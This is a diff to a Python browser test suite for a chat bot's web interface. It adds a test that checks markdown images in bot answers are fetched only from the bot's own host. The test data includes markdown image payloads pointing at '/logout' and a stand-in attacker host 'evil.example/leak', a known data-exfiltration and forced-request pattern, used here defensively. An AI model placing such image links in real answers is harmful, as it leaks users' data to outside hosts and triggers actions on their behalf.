@@ -32,10 +32,11 @@ PAGE = """
 @asynccontextmanager
 async def shop() -> AsyncIterator[tuple[str, dict[str, str]]]:
     """A site of its own, and the page that it shows: Chromium wants it on this machine too."""
-    shown = {"page": ""}
+    shown = {"page": "", "asked": ""}
 
     async def answer(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
-        await reader.readuntil(b"\r\n\r\n")
+        asked = await reader.readuntil(b"\r\n\r\n")
+        shown["asked"] += asked.split(b" ")[1].decode() + "\n"
         head = "HTTP/1.1 200 OK\r\ncontent-type: text/html\r\nconnection: close\r\n\r\n"
         writer.write((head + shown["page"]).encode())
         await writer.drain()
@@ -66,3 +67,22 @@ async def test_a_page_of_an_allowed_origin_talks_with_a_token_and_stops() -> Non
             assert screen.elsewhere == []
             assert await screen.find(".notice").count() == 0
             assert await screen.page.context.cookies() == []
+
+
+async def test_images_are_asked_of_the_host_and_never_of_the_page_around_it() -> None:
+    auth = ApiKeysAuth([ApiKey.model_validate({"key": "right", "user": "ann"})])
+    images = "![a](/logout?x=1) ![b](http:evil.example/leak?x=2) ![c](https:evil.example/?x=3)"
+    async with shop() as (origin, shown):
+        _, app = bot({"Go": images}, auth=auth, uses_keys=True, allowed_origins=(origin,))
+        async with serve(app) as url, looking_at(url, also=origin) as screen:
+            shown["page"] = PAGE.replace("HOST", url)
+            await screen.page.goto(origin)
+            await screen.say("Go")
+            await screen.answered()
+            sources = await screen.find(".md img").evaluate_all(
+                "all => all.map((each) => { each.loading = 'eager'; return each.src; })"
+            )
+            await screen.page.wait_for_load_state("networkidle")
+            assert sources == [f"{url}/logout?x=1", f"{url}/evil.example/leak?x=2"]
+            assert set(shown["asked"].split()) <= {"/", "/favicon.ico"}
+            assert screen.elsewhere == []
